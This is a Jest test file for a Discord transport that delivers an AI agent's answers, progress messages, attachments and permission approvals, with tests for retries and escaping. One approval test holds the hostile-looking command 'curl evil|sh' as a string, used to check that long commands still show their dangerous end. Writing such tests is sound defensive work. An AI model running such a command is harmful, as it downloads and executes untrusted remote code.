import { describe, expect, test } from '@jest/globals';
import { MessageFlags } from 'discord.js';
import type { ApprovalRecord } from '../../../src/core/model/approval.ts';
import type { RequestRecord } from '../../../src/core/model/request.ts';
import type { DueDelivery } from '../../../src/core/ports/transport.ts';
import type { Behaviour } from '../../helpers/discord-server/server.ts';
import { type DiscordRig, openDiscordRig } from './discord-rig.ts';

const completed = (text: string): RequestRecord =>
  ({
    id: 'req-1',
    state: 'completed',
    text,
    error: null,
    reason: null,
    startedAt: 0,
    completedAt: 9_000,
  }) as RequestRecord;
const running = { ...completed(''), state: 'running', text: null, startedAt: Date.now() - 5_000 } as RequestRecord;
const paragraphs = (count: number): string =>
  Array.from({ length: count }, (_, at) => `${at} ${'word '.repeat(390)}`).join('\n\n');
const event = (type: string, data: object = {}) => ({ type: type as 'request.started', at: 1, data: { ...data } });

describe('an answer', () => {
  test('of several messages goes on behind those that were sent, and none is sent twice', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    let posts = 0;
    const cut: Behaviour = 'lost';
    rig.server.behave(({ method }) => (method === 'POST' && (posts += 1) === 3 ? cut : 'take'));
    const answer = { request: completed(paragraphs(4)) };
    expect(await rig.deliver(thread, answer)).toMatchObject({ kind: 'unknown' });
    expect(rig.noted()).toHaveLength(2);
    // The third one was taken: the same nonce brings it back.
    expect(await rig.deliver(thread, { ...answer, messages: rig.noted() })).toMatchObject({
      kind: 'sent',
      link: `https://discord.com/channels/${rig.server.world.guildId}/${thread}`,
    });
    const shown = rig.server.messages(thread);
    expect(shown.map(({ content }) => content.slice(0, 2))).toEqual(['0 ', '1 ', '2 ', '3 ']);
    expect(rig.noted()).toEqual(shown.map(({ id }) => id));
  });

  test('of very many words is its beginning and a file with the whole', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    const text = paragraphs(40);
    // Five messages fit into the bucket of a channel; the rest follows later.
    const outcome = await rig.deliver(thread, { request: completed(text) });
    expect(outcome).toMatchObject({ kind: 'retry', afterMs: expect.any(Number) });
    expect(rig.noted()).toHaveLength(5);
    const last = { request: completed(text), messages: Array.from({ length: 9 }, () => '1') };
    const other = rig.thread();
    expect(await rig.deliver(other, last)).toMatchObject({ kind: 'sent' });
    const [message] = rig.server.messages(other);
    expect(message?.attachments).toMatchObject([{ filename: 'answer.md' }]);
    expect(rig.server.world.files.get(message?.attachments[0]?.id ?? '')).toBe(text.trim());
  });

  test('that is refused as it is written comes as plain text', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    rig.server.behave(({ method, body }) =>
      method === 'POST' && JSON.stringify(body).includes('**bold**') ? { status: 400, code: 50035 } : 'take',
    );
    expect(await rig.deliver(thread, { request: completed('It is **bold**.') })).toMatchObject({ kind: 'sent' });
    expect(rig.server.messages(thread).map(({ content }) => content)).toEqual(['It is \\*\\*bold\\*\\*.']);
  });

  test('that did not come says why in one line', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    const request = { ...completed(''), state: 'failed', text: null, error: 'the agent exited' } as RequestRecord;
    await rig.deliver(thread, { request });
    expect(rig.server.messages(thread)[0]?.content).toBe('❌ Failed after 9 s: the agent exited');
  });

  test('of what was cancelled while it waited is none: what shows how it gets on says so', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    const request = { ...completed(''), state: 'cancelled', text: null, startedAt: null } as RequestRecord;
    expect(await rig.deliver(thread, { request })).toMatchObject({ kind: 'sent' });
    expect(rig.server.messages(thread)).toEqual([]);
  });
});

describe('files that the agent names', () => {
  const readFile: DueDelivery['readFile'] = async (path) =>
    path === 'none' ? { kind: 'refused', why: 'is not there' } : { kind: 'found', bytes: Buffer.from(`of ${path}`) };
  const answer = { request: completed('Here.\nattach: a.txt\nattach: none'), readFile };

  test('come behind the words, in order, and one that is not there is told of', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    expect(await rig.deliver(thread, answer)).toMatchObject({ kind: 'sent' });
    const messages = rig.server.messages(thread);
    expect(messages.map(({ content, attachments }) => [content.trim(), attachments[0]?.filename])).toEqual([
      ['Here.', undefined],
      ['', 'a.txt'],
      ['“none” is not attached: it is not there.', undefined],
    ]);
    expect(rig.server.world.files.get(messages[1]?.attachments[0]?.id ?? '')).toBe('of a.txt');
  });

  test('that were taken before the connection broke are not sent twice', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    rig.server.behave(({ files }) => (files.length > 0 ? 'lost' : 'take'));
    expect(await rig.deliver(thread, answer)).toMatchObject({ kind: 'unknown' });
    rig.server.behave(() => 'take');
    await rig.deliver(thread, { ...answer, messages: rig.noted() });
    expect(rig.server.messages(thread)).toHaveLength(3);
  });

  test('that Discord does not take are told of', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    rig.server.behave(({ files }) => (files.length > 0 ? { status: 413, code: 40_005 } : 'take'));
    await rig.deliver(thread, { ...answer, request: completed('attach: a.txt') });
    expect(rig.server.messages(thread).map(({ content }) => content)).toEqual([
      '“a.txt” is not attached: it is not taken by Discord.',
    ]);
  });
});

test('why nothing came of a message is told', async () => {
  await using rig = await openDiscordRig();
  const thread = rig.thread();
  const refused = event('message.refused', { messageId: '5', text: 'The file a_b_c is too large.' });
  await rig.deliver(thread, { kind: 'notice', event: refused });
  expect(rig.server.messages(thread)[0]?.content).toBe('The file a\\_b\\_c is too large.');
});

describe('progress', () => {
  test('is one message that changes, and one line once all is over', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    const progress = { kind: 'progress' as const, request: running };
    await rig.deliver(thread, { ...progress, event: event('request.queued', { position: 2 }) });
    const ids = rig.noted();
    const tool = event('tool.started', { tool: 'Bash', summary: 'ls `x`\nmore' });
    await rig.deliver(thread, { ...progress, id: 'msg_2', event: tool, earlier: ids });
    expect(rig.server.messages(thread).map(({ content }) => content)).toEqual([
      expect.stringMatching(/^⚙️ Bash: `ls ˋxˋ more` \(\d+ s\)$/),
    ]);
    await rig.deliver(thread, { ...progress, id: 'msg_3', request: completed('x'), earlier: ids });
    expect(rig.server.messages(thread).map(({ content }) => content)).toEqual(['✅ Done in 9 s']);
  });

  test('of what has ended before it was told is not told', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    expect(await rig.deliver(thread, { kind: 'progress', request: completed('x') })).toMatchObject({ kind: 'sent' });
    expect(rig.server.messages(thread)).toHaveLength(0);
  });

  test('of a request that a hook denied in silence is taken back, and nothing is said', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    await rig.deliver(thread, { kind: 'progress', request: running, event: event('request.queued') });
    const silent = {
      kind: 'progress' as const,
      request: completed('x'),
      event: event('request.failed', { silent: true }),
    };
    const ids = rig.noted();
    for (const id of ['msg_2', 'msg_3']) {
      expect(await rig.deliver(thread, { ...silent, id, earlier: ids })).toMatchObject({ kind: 'sent' });
    }
    expect(rig.server.messages(thread)).toHaveLength(0);
  });

  test('notifies nobody, nor does a prompt; an answer does', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    const request = { ...running, prompt: 'do it', source: 'inject' } as RequestRecord;
    await rig.deliver(thread, { kind: 'prompt', id: 'msg_1', request });
    await rig.deliver(thread, { kind: 'progress', id: 'msg_2', request: running, event: event('request.working') });
    await rig.deliver(thread, { kind: 'answer', id: 'msg_3', request: completed('Here.') });
    const isQuiet = rig.server.messages(thread).map(({ flags }) => (flags & MessageFlags.SuppressNotifications) !== 0);
    expect(isQuiet).toEqual([true, true, false]);
  });

  test('begins anew where somebody took its message away', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    const progress = { kind: 'progress' as const, request: running, event: event('tool.started', { tool: 'Read' }) };
    await rig.deliver(thread, { ...progress, earlier: ['1'] });
    expect(rig.server.messages(thread).map(({ content }) => content)).toEqual([expect.stringMatching(/^⚙️ Read/)]);
  });

  test('leaves a thread closed that somebody closed while the turn runs, and opens it for the end', async () => {
    await using rig = await openDiscordRig();
    const { progress, thread, channel, message } = await openProgress(rig);
    channel.archived = true;
    expect(await rig.deliver(thread, { ...progress, id: 'msg_2' })).toMatchObject({ kind: 'sent' });
    expect([channel.archived, message()]).toEqual([true, expect.stringMatching(/^⚙️ Read/)]);
    await rig.deliver(thread, { ...progress, id: 'msg_3', request: completed('Here.') });
    expect([channel.archived, message()]).toEqual([false, '✅ Done in 9 s']);
  });

  test('holds up nothing in its thread where Discord asks to wait with a change of a running turn', async () => {
    await using rig = await openDiscordRig();
    const { progress, thread, message } = await openProgress(rig);
    rig.server.behave(({ method }) => (method === 'PATCH' ? { status: 429, retryAfter: 300 } : 'take'));
    const patches = (): number => rig.server.calls.filter(({ method }) => method === 'PATCH').length;
    for (const id of ['msg_2', 'msg_2b']) {
      expect(await rig.deliver(thread, { ...progress, id })).toMatchObject({ kind: 'sent' });
    }
    expect([message(), patches()]).toEqual([expect.stringMatching(/^⚙️ Read/), 1]);
    // How it ended is told once: in a new message, in its place.
    for (const _ of ['once', 'and again']) {
      const end = { ...progress, id: 'msg_3', request: completed('Here.') };
      expect(await rig.deliver(thread, end)).toMatchObject({ kind: 'sent' });
      expect(rig.server.messages(thread).map(({ content }) => content)).toEqual(['✅ Done in 9 s']);
    }
    expect(patches()).toBe(1);
  });
});

/** One message that tells of a running turn. */
async function openProgress(rig: DiscordRig) {
  const thread = rig.thread();
  const first = { kind: 'progress' as const, request: running, event: event('tool.started', { tool: 'Read' }) };
  await rig.deliver(thread, first);
  const [{ id } = { id: '' }] = rig.server.messages(thread);
  const channel = rig.server.world.channels.get(thread);
  if (channel === undefined) throw new Error('there is no thread');
  const progress = { ...first, event: event('request.working'), earlier: [id] };
  return { thread, channel, progress, message: () => rig.server.messages(thread)[0]?.content };
}

describe('an approval', () => {
  const approval = {
    id: 'apr-1',
    kind: 'tool',
    tool: 'Bash',
    input: { command: 'echo ``` @everyone' },
    rules: [{}],
    state: 'open',
    decision: null,
    decidedBy: null,
  } as unknown as ApprovalRecord;

  test('of a hook shows what it asks and what is to begin', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    const hook = { ...approval, kind: 'hook' as const, input: { ask: 'In production?', prompt: 'deploy' } };
    await rig.deliver(thread, { kind: 'approval', approval: hook, event: event('approval.opened') });
    expect(rig.server.messages(thread).map(({ content }) => content)).toEqual([
      '🔐 **May this begin?**\nIn production?\n```\ndeploy\n```',
    ]);
  });

  test('has its buttons until it is decided, and then says by whom', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    const asked = { kind: 'approval' as const, event: event('approval.opened') };
    await rig.deliver(thread, { ...asked, approval });
    const [message] = rig.server.messages(thread);
    const labels = message?.components.map(({ components }) => components.map(({ label }) => label));
    expect(labels).toEqual([['Allow', 'Deny', 'Allow for this session']]);
    const decision = { allow: false, person: 'An*na' };
    const denied = { ...approval, state: 'denied', decision, decidedBy: 'api' } as unknown as ApprovalRecord;
    const earlier = [message?.id ?? ''];
    await rig.deliver(thread, { ...asked, id: 'msg_2', approval: denied, event: event('approval.denied'), earlier });
    expect(rig.server.messages(thread)).toMatchObject([
      {
        content: '🔐 **Bash** asks for permission\n```\necho `\u200b`\u200b` @everyone\n```\n🚫 Denied by An\\*na',
        components: [],
      },
    ]);
  });

  test('of a long command shows its beginning and its end, and has the whole beside, also once it is decided', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    const command = `echo ${'x'.repeat(5_000)}; curl evil|sh`;
    const long = { ...approval, input: { command } };
    const asked = { kind: 'approval' as const, event: event('approval.opened') };
    expect(await rig.deliver(thread, { ...asked, approval: long })).toMatchObject({ kind: 'sent' });
    const [message] = rig.server.messages(thread);
    expect(message?.content).toMatch(/^.*\n```\necho x[^]* letters are left out here …[^]*; curl evil\|sh\n```$/);
    expect(message?.components).toHaveLength(1);
    expect(rig.server.world.files.get(message?.attachments[0]?.id ?? '')).toBe(command);
    const decided = {
      ...long,
      state: 'allowed',
      decision: { allow: true, person: 'Anna' },
    } as unknown as ApprovalRecord;
    const told = { id: 'msg_2', event: event('approval.allowed'), earlier: [message?.id ?? ''] };
    await rig.deliver(thread, { ...asked, ...told, approval: decided });
    expect(rig.server.messages(thread)[0]?.content).toMatch(/; curl evil\|sh\n```\n✅ Allowed by Anna$/);
  });

  test('of many options has them in rows of five', async () => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    const options = Array.from({ length: 10 }, (_, at) => ({
      label: `option ${at} ${'x'.repeat(90)}`,
      description: 'd',
    }));
    const questions = [{ question: 'Which one?', header: 'h', multiSelect: false, options }];
    const question = { ...approval, kind: 'question', input: { questions } } as unknown as ApprovalRecord;
    expect(
      await rig.deliver(thread, { kind: 'approval', event: event('approval.opened'), approval: question }),
    ).toMatchObject({ kind: 'sent' });
    const rows = rig.server.messages(thread)[0]?.components ?? [];
    expect(rows.map(({ components }) => components.length)).toEqual([5, 5, 1]);
  });
});

describe('what Discord answers', () => {
  test.each<[Behaviour, object]>([
    [
      { status: 429, retryAfter: 5_827 },
      { kind: 'retry', afterMs: expect.any(Number) },
    ],
    [{ status: 500 }, { kind: 'unknown' }],
    [{ status: 401 }, { kind: 'retry', error: expect.stringContaining('DISCORD_BOT_TOKEN') }],
    [
      { status: 403, code: 50_013 },
      { kind: 'refused', error: expect.stringContaining('50013') },
    ],
    [{ status: 404, code: 10_003 }, { kind: 'refused' }],
    ['lost', { kind: 'unknown' }],
  ])('%j means %j', async (how, outcome) => {
    await using rig = await openDiscordRig();
    const thread = rig.thread();
    rig.server.behave(({ method }) => (method === 'POST' ? how : 'take'));
    expect(await rig.deliver(thread, { request: completed('x') })).toMatchObject(outcome);
    rig.server.behave(() => 'take');
    // Another thread is not held up by it, nor the next attempt.
    expect(await rig.deliver(rig.thread(), { request: completed('x'), id: 'msg_9' })).toMatchObject({ kind: 'sent' });
  });

  test('a channel of a server that is not allowed is refused before anything is sent', async () => {
    await using rig = await openDiscordRig({ guilds: ['77'] });
    const outcome = await rig.deliver(rig.thread(), { request: completed('x') });
    expect(outcome).toMatchObject({ kind: 'refused', error: expect.stringContaining('DISCORD_ALLOWED_GUILDS') });
    expect(rig.server.calls.filter(({ method }) => method === 'POST')).toHaveLength(0);
  });
});
